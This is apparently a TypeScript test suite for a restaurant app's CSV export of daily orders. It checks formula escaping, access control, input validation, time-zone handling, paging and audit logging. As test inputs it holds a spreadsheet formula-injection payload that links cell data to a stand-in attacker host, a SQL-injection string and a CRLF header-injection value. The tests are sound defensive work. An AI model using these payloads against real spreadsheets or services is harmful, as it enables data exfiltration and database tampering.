import { readOrderLines } from "@tureen/persistence/orders/read-order-lines";
import { ENDPOINTS } from "@tureen/shared/endpoints";
import { businessDayOf, DEFAULT_DAYS } from "@tureen/shared/platform/business-day";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startTestApi, type TestApi } from "../testing/test-api.ts";
import { placeOrder } from "../testing/test-restaurant.ts";

const FORMULA = '=HYPERLINK("http://evil.example?"&A1;"bill")';
const today = businessDayOf(new Date(), DEFAULT_DAYS);
const HEADER =
  "order,placed_at,table,status,status_at,cancel_reason,ordered_by,line,dish,options,note,for," +
  "quantity,unit_price,line_total,currency";

let api: TestApi;
let manager: string;
beforeAll(async () => {
  api = await startTestApi();
  manager = await api.signIn(api.here, "manager");
  const host = await api.open();
  const { restaurantId, sessionId, diner } = host;
  await api.call("rename", { token: host.accessToken, body: { name: "+Ana;=1+1" } });
  const seat = { restaurantId, sessionId, diner };
  for (const note of [FORMULA, "one\n=2;\r".trim(), "", "", ""]) {
    await placeOrder(api.db.pool, seat, note.replaceAll("\r", ""));
  }
});
afterAll(() => api.close());

const fetchFile = (query: string, headers: Record<string, string> = { cookie: manager }) =>
  api.app.request(`${ENDPOINTS.exportOrders.path}?${query}`, { headers });
const both = (from: string, to = from) => `from=${from}&to=${to}`;

/** The text as the browser stores it, with its mark. */
async function textOf(response: Response): Promise<string> {
  return new TextDecoder("utf-8", { ignoreBOM: true }).decode(await response.arrayBuffer());
}
async function refusal(response: Response) {
  const { error } = (await response.json()) as { error: { code: string; field?: string } };
  return [response.status, error.code, error.field];
}

describe("the file of a day's orders", () => {
  it("is a CSV file with a safe name that nothing runs and nobody else may embed", async () => {
    const response = await fetchFile(both(today));
    expect(response.status).toBe(200);
    expect(Object.fromEntries(response.headers)).toMatchObject({
      "content-type": "text/csv; charset=utf-8; header=present",
      "content-disposition": `attachment; filename="orders-${api.here.slug}-${today}-${today}.csv"`,
      "cache-control": "no-store",
      "x-content-type-options": "nosniff",
      "cross-origin-resource-policy": "same-origin",
    });
    const text = await textOf(response);
    expect(text.startsWith("\uFEFF")).toBe(true);
    const lines = text.slice(1).split("\r\n");
    expect(lines).toHaveLength(1 + 5 + 1);
    expect(lines[0]).toBe(
      HEADER.split(",")
        .map((name) => `"${name}"`)
        .join(","),
    );
    expect(lines[1]).toContain('"1"');
    expect(lines[1]).toContain(`"${api.here.menu.currency}"`);
  });

  it("holds no formula, whatever guests wrote", async () => {
    const text = await textOf(await fetchFile(both(today)));
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example?""&A1;""bill"")"`);
    expect(text).toContain(`"'+Ana;'=1+1"`);
    expect(text).toContain(`"one =2;"`);
    expect(text).not.toMatch(/(^|[;,\t"])[=+\-@]/m);
  });

  it("is for managers of this restaurant", async () => {
    for (const role of ["waiter", "kitchen"] as const) {
      const cookie = await api.signIn(api.here, role);
      expect(await refusal(await fetchFile(both(today), { cookie }))).toEqual([
        403,
        "not-allowed",
        undefined,
      ]);
    }
    const { accessToken } = await api.open();
    const asDiner = await fetchFile(both(today), { authorization: `Bearer ${accessToken}` });
    expect((await refusal(asDiner))[1]).toBe("token-missing");
    const cookie = await api.signIn(api.there, "manager");
    const theirs = await textOf(await fetchFile(both(today), { cookie }));
    expect(theirs.split("\r\n")).toHaveLength(2);
  });

  it.each([
    ["", "from"],
    ["from=2026-01-01", "to"],
    ["from=2026-01-02&to=2026-01-01", "to"],
    ["from=2026-01-01&to=2026-04-03", "to"],
    ["from=2026-02-30&to=2026-03-01", "from"],
    ["from=01/02/2026&to=2026-03-01", "from"],
    ["from=2026-01-01&to=2026-01-01'; drop table orders; --", "to"],
    ["from=2026-01-01%0d%0aset-cookie:x&to=2026-01-01", "from"],
  ])("is refused for %j", async (query, field) => {
    expect(await refusal(await fetchFile(query))).toEqual([400, "field-invalid", field]);
  });

  it("counts days as the restaurant's clock does", async () => {
    const [row] = (
      await api.db.owner.query<{ day: string; before: string; after: string }>(
        `select to_char(now() at time zone 'Pacific/Kiritimati', 'YYYY-MM-DD') as day,
           to_char(now() at time zone 'Pacific/Kiritimati' - interval '1 day', 'YYYY-MM-DD') as before,
           to_char(now() at time zone 'Pacific/Kiritimati' + interval '1 day', 'YYYY-MM-DD') as after`,
      )
    ).rows;
    const setZone = (zone: string) =>
      api.db.owner.query("update restaurants set timezone = $2 where id = $1", [
        api.here.restaurantId,
        zone,
      ]);
    await setZone("Pacific/Kiritimati");
    const linesOn = async (day = "") =>
      (await textOf(await fetchFile(both(day)))).split("\r\n").length - 2;
    expect(await linesOn(row?.day)).toBe(5);
    expect(await linesOn(row?.before)).toBe(0);
    expect(await linesOn(row?.after)).toBe(0);
    await setZone("UTC");
  });

  it("counts what was ordered before a business day begins to the day before", async () => {
    const { rows } = await api.db.owner.query<{ at: Date }>(
      "select placed_at as at from orders where restaurant_id = $1 order by placed_at limit 1",
      [api.here.restaurantId],
    );
    const at = rows[0]?.at ?? new Date();
    // The time zone in which it was between three and four in the morning.
    const offset = ((3 - at.getUTCHours() + 36) % 24) - 12;
    const timezone = `Etc/GMT${offset > 0 ? "-" : "+"}${Math.abs(offset)}`;
    const local = new Date(at.getTime() + offset * 3_600_000);
    const dayOf = (time: Date) => time.toISOString().slice(0, 10);
    const sameDay = dayOf(local);
    const dayBefore = dayOf(new Date(local.getTime() - 24 * 3_600_000));
    const linesOn = async (day: string) =>
      (await textOf(await fetchFile(both(day)))).split("\r\n").length - 2;
    for (const [dayStartsAt, day, other] of [
      [0, sameDay, dayBefore],
      [3, sameDay, dayBefore],
      [4, dayBefore, sameDay],
      [12, dayBefore, sameDay],
    ] as const) {
      const body = { timezone, dayStartsAt };
      expect((await api.call("changeSettings", { cookie: manager, body })).status).toBe(200);
      expect(businessDayOf(at, body)).toBe(day);
      expect(await linesOn(day)).toBe(5);
      expect(await linesOn(other)).toBe(0);
    }
    await api.call("changeSettings", { cookie: manager, body: DEFAULT_DAYS });
  });

  it("is read a few orders at a time, none twice and none left out", async () => {
    const { restaurantId } = api.here;
    const numbers: number[] = [];
    for (let after = 0, rounds = 0; rounds < 10; rounds++) {
      const rows = await readOrderLines(api.db.pool, {
        ...{ restaurantId, from: today, to: today, after, last: 4, limit: 3 },
      });
      if (rows.length === 0) break;
      numbers.push(...rows.map(({ number }) => number));
      after = numbers.at(-1) ?? 0;
    }
    expect(numbers).toEqual([1, 2, 3, 4]);
  });

  it("is given twice at once, not more, and again when a reader has gone", async () => {
    const open = [await fetchFile(both(today)), await fetchFile(both(today))];
    expect((await refusal(await fetchFile(both(today))))[1]).toBe("overloaded");
    for (const { body } of open) await body?.cancel();
    const again = await fetchFile(both(today));
    expect(again.status).toBe(200);
    await again.body?.cancel();
  });

  it("is noted, with who, what and when", async () => {
    const { rows } = await api.db.owner.query(
      "select actor_kind, details from session_activity_log where action = 'orders.export' limit 1",
    );
    expect(rows).toEqual([{ actor_kind: "staff", details: { from: today, to: today, orders: 5 } }]);
  });
});
